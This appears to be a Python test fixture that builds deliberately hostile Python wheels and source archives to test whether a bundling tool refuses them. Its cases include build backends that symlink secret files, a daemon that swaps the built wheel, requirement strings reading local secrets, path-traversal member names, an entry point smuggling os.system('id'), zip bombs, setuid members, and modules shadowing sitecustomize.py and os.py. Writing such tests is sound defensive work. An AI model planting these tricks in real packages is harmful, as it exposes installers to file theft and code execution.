"""Hostile wheels and sources: what stands in their archives, and what their builds answer."""

from __future__ import annotations

import io
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.support.wheelmaker import make_sdist, make_wheel

from scripts.attacks.hostile_code import ATTACKS, program

Job = Mapping[str, Any]
Make = Callable[[Path, Job], Path]
NOTHING = "the attack got: nothing"
_SAID = "\nraise ImportError('the attack got: ' + (', '.join(got) or 'nothing'))\n"
_TOML = """\
[build-system]
requires = [{requires}]
build-backend = "backend"
backend-path = ["."]
[project]
name = "hostile"
version = "1.0"
"""
_BACKEND = """\
import base64, hashlib, os, sys, zipfile
NAME = 'hostile-1.0-py3-none-any.whl'
ATTACK = {attack!r}
JOB = {job!r}
def wheel(folder, name=NAME, files=None, said='', who='hostile', version='1.0'):
    info = '%s-%s.dist-info/' % (who, version)
    rows = ''
    members = dict(files or {{who + '.py': 'GOT = []\\n'}})
    members[info + 'METADATA'] = 'Metadata-Version: 2.1\\nName: %s\\nVersion: %s\\n' % (who, version) + said
    members[info + 'WHEEL'] = 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'
    with zipfile.ZipFile(os.path.join(folder, name), 'w') as archive:
        for path, text in members.items():
            archive.writestr(zipfile.ZipInfo(path), text)
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip('=')
            rows += path + ',sha256=' + digest + ',\\n'
        archive.writestr(zipfile.ZipInfo(info + 'RECORD'), rows + info + 'RECORD,,\\n')
    return name
def get_requires_for_build_wheel(settings=None):
    {requires}
def build_wheel(folder, settings=None, metadata=None):
    {build}
"""
_RUNS = """scope = {'__name__': 'attack'}
    exec(ATTACK, scope)
    return wheel(folder, files={'hostile.py': 'GOT = %r\\n' % sorted(set(scope['got']))})"""


@dataclass(frozen=True, kw_only=True)
class Case:
    """A hostile distribution called `hostile`."""

    make: Make
    """Writes it into an empty folder."""
    codes: tuple[int, ...]
    """The exit codes of `create` that are right; 0: nothing of it harms whoever uses the bundle."""
    says: str = ""
    """What `create` prints then."""
    requires: str = "hostile\n"
    words: tuple[str, ...] = ()
    """Further options of `create`."""


def _fill(text: Any, job: Job) -> Any:
    """Put into texts, and into the names and texts of members, what is known only now."""
    if isinstance(text, str):
        for name in ("tcp", "home"):
            text = text.replace(f"<{name}>", str(job[name]))
        return text.replace("<secret>", job["secrets"][0])
    if isinstance(text, dict):
        return {_fill(name, job): _fill(value, job) for name, value in text.items()}
    return text


def _source(
    build: str = "return wheel(folder)", *, requires: str = "return []", attack: str = "", toml: str = ""
) -> Make:
    """Return what makes a source whose backend does that."""

    def make(folder: Path, job: Job) -> Path:
        code = program(ATTACKS[attack], job) if attack else ""
        files = {
            "pyproject.toml": _fill(toml or _TOML.format(requires=""), job),
            "backend.py": _BACKEND.format(build=build, requires=requires, attack=code, job=dict(job)),
            "PKG-INFO": "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n",
            "hostile.py": "",
        }
        return make_sdist(folder, "hostile", files=files)

    return make


def _wheel(files: Mapping[str, str | bytes] | None = None, **more: Any) -> Make:
    """Return what makes a wheel of these files, as `make_wheel` does."""

    def make(folder: Path, job: Job) -> Path:
        known = {name: _fill(value, job) for name, value in more.items()}
        return make_wheel(folder, "hostile", files=_fill(dict(files or {"hostile.py": ""}), job), **known)

    return make


def _code(attack: str, moment: str) -> Case:
    """Return the case of an attack at a moment."""
    one = ATTACKS[attack]
    words = ("--process-limit", "400") if attack == "a fork bomb" else ()
    usual = {"import": (1,), "start": (0, 1, 3), "build": (0,) if one.ends else (3,)}
    codes = one.codes.get(moment, usual[moment])
    if moment == "build":
        return Case(make=_source(_RUNS, attack=attack), codes=codes, words=words)

    def make(folder: Path, job: Job) -> Path:
        text = program(one, job)
        files = {"hostile.py": text + _SAID}
        if moment == "start":
            files = {"hostile.py": "", "hostile_start.py": text, "hostile.pth": "import hostile_start\n"}
        return make_wheel(folder, "hostile", files=files)

    return Case(make=make, codes=codes, words=words, says=NOTHING if moment == "import" and one.ends else "")


def _links(kind: bytes, name: str, target: str) -> Make:
    """Return what makes a source with a member that is a link, or leaves."""

    def make(folder: Path, job: Job) -> Path:
        path = _source()(folder, job)
        with tarfile.open(path) as old:
            members = [(one, (old.extractfile(one) or io.BytesIO()).read()) for one in old]
        with tarfile.open(path, "w:gz") as new:
            for one, data in members:
                if one.name != f"hostile-1.0/{name}":
                    new.addfile(one, io.BytesIO(data))
            info = tarfile.TarInfo(_fill(f"hostile-1.0/{name}", job))
            info.type, info.linkname, info.mode = kind, _fill(target, job), 0o6777
            new.addfile(info)
        return path

    return make


def _bomb(folder: Path, _: Job) -> Path:
    """A thousand times larger than it looks."""
    path = make_wheel(folder, "hostile")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("hostile_bomb.txt", bytes(64 << 20))
    return path


def _mode(mode: int, content: str) -> Make:
    """Return what makes a wheel with a member of that kind."""

    def make(folder: Path, job: Job) -> Path:
        path = make_wheel(folder, "hostile")
        with zipfile.ZipFile(path, "a") as archive:
            info = zipfile.ZipInfo("hostile_other.py")
            info.external_attr = mode << 16
            archive.writestr(info, _fill(content, job))
        return path

    return make


def _shadow(name: str) -> Make:
    """Return what makes a wheel whose module has the name of one that everything imports."""

    def make(folder: Path, job: Job) -> Path:
        text = program(ATTACKS["the caller's files"], job) + ATTACKS["a daemon"].code
        return make_wheel(folder, "hostile", files={"hostile.py": "", name: text})

    return make


REFUSED = (1, 2, 3)
EITHER = (0, *REFUSED)
_INFO = "hostile-1.0.dist-info"
_INDEX = "--index-url=http://127.0.0.1:<tcp>/"
_SWAPPED = """if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.symlink(JOB['secrets'][0], '/made/.x')
                os.rename('/made/.x', '/made/' + NAME)
            except OSError:
                pass
    return wheel(folder)"""

MADE: Mapping[str, str] = {
    "two wheels": "wheel(folder, 'beta-2.0-py3-none-any.whl', who='beta'); return wheel(folder)",
    "a link": "os.symlink(JOB['secrets'][0], folder + '/' + NAME); return NAME",
    "a link in /made": "os.symlink(JOB['secrets'][0], '/made/x.whl'); return wheel(folder)",
    "a FIFO": "os.mkfifo(folder + '/' + NAME); return NAME",
    "a FIFO in /made": "os.mkfifo('/made/x.whl'); return wheel(folder)",
    "a folder": "os.mkdir(folder + '/' + NAME); return NAME",
    "a folder in /made": "os.mkdir('/made/x.whl'); return wheel(folder)",
    "a link to a device": "os.symlink('/dev/zero', folder + '/' + NAME); return NAME",
    "a name that leaves": "wheel('/tmp', 'x.whl'); return '../../../../tmp/x.whl'",
    "an absolute name": "return wheel(folder, '/tmp/' + NAME)",
    "no name": "return None",
    "a number": "return 10 ** 5000",
    "a name of bytes": "return b'x.whl'",
    "a long name": "return 'x' * (32 << 20)",
    "a name with a line": "wheel(folder); return NAME + '\\n'",
    "nothing": "return NAME",
    "an empty file": "open(folder + '/' + NAME, 'w').close(); return NAME",
    "another distribution": "return wheel(folder, 'alpha-9.0-py3-none-any.whl', who='alpha', version='9.0')",
    "another name within": "return wheel(folder, who='alpha')",
    "another version": "return wheel(folder, 'hostile-9.0-py3-none-any.whl', version='9.0')",
    "another platform": "return wheel(folder, 'hostile-1.0-cp311-cp311-win_amd64.whl')",
    "requirements that it hid": "return wheel(folder, said='Requires-Dist: nosuchthing\\n')",
    "a wheel that a daemon changes": _SWAPPED,
}
"""What a build makes and returns: the body of `build_wheel`."""
ASKED: Mapping[str, str] = {
    "a file": "return ['evil @ file://' + JOB['secrets'][0]]",
    "a URL": "return ['evil @ http://127.0.0.1:%d/evil-1.0-py3-none-any.whl' % JOB['tcp']]",
    "a repository": "return ['evil @ git+file://' + JOB['home']]",
    "options": "return ['--index-url=http://127.0.0.1:%d/' % JOB['tcp'], '-r' + JOB['secrets'][0]]",
    "lines": "return ['beta\\n--index-url http://127.0.0.1:%d/' % JOB['tcp'], 'beta;\\n\\x1b[2J']",
    "always another": "return ['nosuch%d' % int.from_bytes(os.urandom(4), 'big')]",
    "a number": "return 17",
    "a million": "return ['nosuch%d' % number for number in range(10 ** 6)]",
}
"""What a backend answers that is asked for what it requires."""
PYPROJECT: Mapping[str, tuple[str, str]] = {
    "a file": ("requires = [", 'requires = ["evil @ file://<secret>"'),
    "a repository here": ("requires = [", 'requires = ["evil @ git+file://<home>"'),
    "options": ("requires = [", f'requires = ["{_INDEX}", "-r <secret>"'),
    "no texts": ("requires = [", "requires = [1, {}, []"),
    "a backend-path that leaves": ('["."]', '["../../../../tmp"]'),
    "an absolute backend-path": ('["."]', '["/"]'),
    "a backend of the library": ('"backend"', '"os:path"'),
    "a backend with a path": ('"backend"', '"../../etc/passwd"'),
    "20 MiB": ("[project]", f"#{'x' * (20 << 20)}\n[project]"),
    "nested": ("[project]", f"x = {'[' * 100_000}\n[project]"),
    "another name": ('"hostile"', '"alpha"'),
}
"""What stands in a pyproject.toml, and what instead."""
LINKS: Mapping[str, tuple[bytes, str, str]] = {
    "the backend is a link": (tarfile.SYMTYPE, "backend.py", "<secret>"),
    "pyproject.toml is a link": (tarfile.SYMTYPE, "pyproject.toml", "<secret>"),
    "a hard link": (tarfile.LNKTYPE, "hostile.py", "<secret>"),
    "pyproject.toml is a FIFO": (tarfile.FIFOTYPE, "pyproject.toml", ""),
    "the backend is a device": (tarfile.CHRTYPE, "backend.py", ""),
    "a member that leaves": (tarfile.REGTYPE, "../../../../../..<home>/evil", ""),
}
"""Kind, name and target of a member of a source."""
MEMBERS = (
    *("../evil.py", "../../../../../../../..<home>/evil", "<home>/evil", "a/../../evil.py", "..\\evil.py"),
    *("C:/evil.py", "a//evil.py", "./evil.py", "evil\n.py", "evil\x1b[2J.py", f"{'e' * 300}.py"),
    f"{'d/' * 3000}e.py",
)
DATA = (
    *("../evil", "scripts/../../../evil", "data/../../../evil", "data/<home>/evil", "headers/../../../evil"),
    *("nosuch/evil", "purelib/alpha/__init__.py", "data/lib/python3.8/site-packages/beta.py"),
    *("data/verify.py", "data/manifest.json", "data/SHA256SUMS", "data/bin/python3.8", "scripts/python"),
)
SCRIPTS = ("../../evil", "/tmp/evil", "..", "evil\x1b[2J", "a/b", "e" * 400)
SHADOWS = (
    *("sitecustomize.py", "usercustomize.py", "site.py", "os.py", "json.py", "ctypes.py", "_manylinux.py"),
    *("encodings/__init__.py", "pip/__init__.py", "importlib/__init__.py", "zipimport.py", "_virtualenv.py"),
)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + b"\xff" * 44
PYC = b"U\r\r\n" + bytes(12) + b"x" * 40
WHEELS: Mapping[str, Make] = {
    "a script that is code": _wheel(
        entry_points="[console_scripts]\nx = os;import os;os.system('id'):main\n"
    ),
    "RECORD leaves": _wheel(record=f"hostile.py,,\n../../../../../../..<home>/.netrc,,\n{_INFO}/RECORD,,\n"),
    "RECORD with another hash": _wheel(record=f"hostile.py,sha256={'A' * 43},0\n{_INFO}/RECORD,,\n"),
    "a file without a row": _wheel(raw={"hostile_extra.py": "VALUE = 1\n"}),
    "a link": _mode(0o120777, "<secret>"),
    "a device": _mode(0o060666, ""),
    "a setuid program": _mode(0o106755, ""),
    "a bomb": _bomb,
    "50,000 members": _wheel(raw={f"hostile/{number}.txt": "" for number in range(50_000)}),
    "17 MiB of METADATA": _wheel(metadata=f"X: {'x' * (17 << 20)}\n"),
    "a long entry point": _wheel(entry_points=f"[console_scripts]\nx = {'a.' * 100_000}:m\n"),
    "requires a file": _wheel(metadata="Requires-Dist: evil @ file://<secret>\n"),
    "two names": _wheel(metadata="Name: alpha\nVersion: 9\n"),
    "another's dist-info": _wheel(
        {"hostile.py": "", "alpha-1.0.dist-info/METADATA": "Name: alpha\nVersion: 1\n"}
    ),
    "another's module": _wheel({"hostile.py": "", "beta.py": "VALUE = 2\n"}),
    "folders in a .pth": _wheel({"hostile.py": "", "hostile.pth": "<home>\n/tmp\n"}),
    "parentheses": _wheel({"hostile.py": "", "hostile_deep.py": "(" * 200_000}),
    "bytecode of its own": _wheel({"hostile.py": "", "__pycache__/hostile.cpython-38.pyc": PYC}),
    "a broken library": _wheel({"hostile.py": "", "hostile_native.so": ELF}),
}
ALLOWED = frozenset(
    {
        # pip takes the one that is named, in the room's /tmp as well.
        *(
            "build, makes two wheels",
            "build, makes an absolute name",
            "build, makes a wheel that a daemon changes",
        ),
        # Ordinary files on Linux, ordinary sizes, and rights that a bundle does not keep.
        *("wheel, member 'C:/evil.py'", "wheel, data 'data/bin/python3.8'", "wheel, data 'scripts/python'"),
        *("wheel: a setuid program", "wheel: a bomb", "wheel: 50,000 members", "wheel: a file without a row"),
        # The archive is what it says to be; what does not compile is not imported, and bytecode is made anew.
        *("build, pyproject.toml: 20 MiB", "build, pyproject.toml: another name"),
        *("wheel: parentheses", "wheel: bytecode of its own"),
        # What runs before anything else runs in the room.
        *(f"wheel, module {name}" for name in SHADOWS),
    }
)
"""Names of those of which a bundle may be made: what they do harms nobody, or is said as a warning."""
TOGETHER = ("another's module", "purelib/alpha", "site-packages/beta")
"""Parts of the names of those that come with the distributions that they attack."""


def _made() -> dict[str, Make]:
    """Return name → what writes the wheel or the source."""
    found = {f"build, makes {name}": _source(text) for name, text in MADE.items()}
    found |= {f"build, asks for {name}": _source(requires=text) for name, text in ASKED.items()}
    plain = _TOML.format(requires="")
    for name, (old, new) in PYPROJECT.items():
        found[f"build, pyproject.toml: {name}"] = _source(toml=plain.replace(old, new))
    found |= {f"build, {name}": _links(*link) for name, link in LINKS.items()}
    found |= {f"wheel: {name}": make for name, make in WHEELS.items()}
    found |= {f"wheel, member {name[:60]!r}": _wheel({"hostile.py": "", name: "x = 1\n"}) for name in MEMBERS}
    for name in DATA:
        found[f"wheel, data {name!r}"] = _wheel({"hostile.py": "", f"hostile-1.0.data/{name}": "x = 1\n"})
    for name in SCRIPTS:
        text = f"[console_scripts]\n{name} = hostile:main\n"
        found[f"wheel, script {name[:60]!r}"] = _wheel(entry_points=text)
    return found | {f"wheel, module {name}": _shadow(name) for name in SHADOWS}


def cases() -> dict[str, Case]:
    """Return name → all cases."""
    found = {
        f"{moment}: {name}": _code(name, moment) for name, one in ATTACKS.items() for moment in one.moments
    }
    for name, make in _made().items():
        wanted = "hostile\nalpha\n" if any(one in name for one in TOGETHER) else "hostile\n"
        codes = EITHER if name in ALLOWED else REFUSED
        found[name] = Case(make=make, codes=codes, requires=wanted)
    return found
